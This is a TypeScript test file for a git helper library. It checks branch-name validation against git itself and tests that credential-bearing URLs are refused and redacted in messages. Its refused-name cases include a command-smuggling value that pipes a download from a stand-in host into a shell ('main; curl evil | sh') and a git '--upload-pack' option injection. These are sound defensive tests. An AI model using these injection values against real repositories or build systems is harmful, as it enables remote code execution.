// Branch names against the real `git check-ref-format`, URLs with credentials, and redaction in messages.
import { spawnSync } from 'child_process';
import fc from 'fast-check';
import { problem, show } from '../../lib/core/errors';
import { checkBranchName, redactSecrets } from '../../lib/core/git';
import { checkGitUrl, checkUrlCredentials } from '../../lib/core/url';

/**
 * What git itself says of `refs/heads/<name>`, and of what `git branch` refuses besides: a leading '-', HEAD,
 * '@' (git's name for HEAD) and a 40-hex name (kpack would take it for a commit).
 */
function gitAccepts(name: string): boolean {
  if (name.startsWith('-') || name === 'HEAD' || name === '@' || /^[0-9a-f]{40}$/.test(name)) return false;
  return spawnSync('git', ['check-ref-format', `refs/heads/${name}`], { encoding: 'utf8' }).status === 0;
}

describe('checkBranchName agrees with git check-ref-format', () => {
  const pieces = fc.constantFrom('main', 'release', '2.0', 'feature', '.', '..', '/', '//', '@', '@{', '{', '~', '^', ':', '?', '*', '[', '\\',
    ' ', '\t', '\n', '\x7f', '-', '.lock', 'ü', 'a.b', '_', '+', '!', '#', '$(x)', ';', '|', 'HEAD');
  test('on names built from the characters and sequences the rules are about (1,000 cases)', () => {
    fc.assert(fc.property(fc.array(pieces, { minLength: 1, maxLength: 5 }).map(a => a.join('')), name => {
      expect({ name, ours: checkBranchName(name) === undefined }).toEqual({ name, ours: gitAccepts(name) });
    }), { numRuns: 1000 });
  }, 120_000);

  test.each(['main', 'master', 'release/2.0', 'feature/a.b', 'v1.2.3'])('%p is a branch name', name => {
    expect(checkBranchName(name)).toBeUndefined();
  });

  test.each([
    ['main; curl evil | sh', 'contains a space'],
    ['release 2.0', 'contains a space'],
    ['--upload-pack=touch x', 'starts with \'-\''],
    ['HEAD', 'is HEAD'],
    ['a..b', 'contains \'..\''],
  ])('%p is refused: %s', (name, why) => {
    expect(checkBranchName(name)).toContain(why);
  });
});

describe('URLs with credentials', () => {
  test.each([
    'https://ghp_0123456789abcdefghijklmnopqrstuvwxyz@github.com/org/ops.git',
    'https://user:secret@github.com/org/ops.git',
    'HTTPS://token@github.com/org/ops.git',
    'ssh://git:secret@github.com/org/ops.git',
  ])('%p is refused, and messages never show the secret', url => {
    expect(checkUrlCredentials(url)).toContain('carries credentials');
    expect(checkGitUrl(url)).toContain('carries credentials');
    const message = problem('url', url, 'is wrong', `Not '${url}'`);
    expect(message).not.toMatch(/ghp_0123|secret|token@/);
    expect(message).toContain('***@github.com');
  });

  test.each<[string, string, string]>([
    ['git+ssh://git:secret@github.com/org/ops.git', 'carries credentials in the URL', 'git+ssh://***@github.com/org/ops.git'],
    ['file://secret@host/srv/ops.git', 'carries credentials in the URL', 'file://***@host/srv/ops.git'],
    ['git:secret@github.com:org/ops.git', 'carries a password in the URL (before \'@\')', '***@github.com:org/ops.git'],
    ['bot:secret@github.com/org/ops.git?token=secret', 'carries a password in the URL (before \'@\')', '***@github.com/org/ops.git?***'],
    ['https://gitlab.com/org/ops.git?private_token=secret', 'has a query or a fragment', 'https://gitlab.com/org/ops.git?***'],
    ['ssh://git@github.com/org/ops.git#secret', 'has a query or a fragment', 'ssh://git@github.com/org/ops.git?***'],
  ])('%p is refused (%s) and shown as %p', (url, wrong, shown) => {
    expect(checkUrlCredentials(url)).toContain(wrong);
    expect(checkGitUrl(url)).toContain(wrong);
    expect(problem('url', url, 'is wrong', 'Fix it')).toBe(`url '${shown}' is wrong. Fix it`);
  });

  test('redaction leaves alone what carries no secret: an image pinned by digest, an e-mail address, an scp-like login', () => {
    const digest = `sha256:${'a'.repeat(64)}`;
    for (const text of [`image 'nginx:1.27@${digest}'`, 'author pin-bot@example.com', 'git@github.com:org/ops.git', "tag ':@'"]) {
      expect(redactSecrets(text)).toBe(text);
    }
  });

  test.each(['https://github.com/org/ops.git', 'git@github.com:org/ops.git', 'ssh://git@github.com/org/ops.git'])('%p is fine', url => {
    expect(checkUrlCredentials(url)).toBeUndefined();
  });

  test('messages show a URL the rules accept as it is, an ssh login included', () => {
    for (const url of ['https://github.com/org/ops.git', 'ssh://git@github.com/org/ops.git', 'git+ssh://git@github.com/org/ops.git']) expect(redactSecrets(url)).toBe(url);
  });

  test('tokens of the common forms are redacted wherever they appear in a value', () => {
    expect(show({ token: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz', url: 'https://x-access-token:abc@github.com/a' }))
      .toBe('{"token":"***","url":"https://***@github.com/a"}');
    expect(show('github_pat_11AAAAAAA0123456789_abcdefghijklmnopqrstuvwxyz')).toBe('***');
    const cycle: any = {};
    cycle.self = cycle;
    expect(show(cycle)).toBe('[object Object]');
  });
});
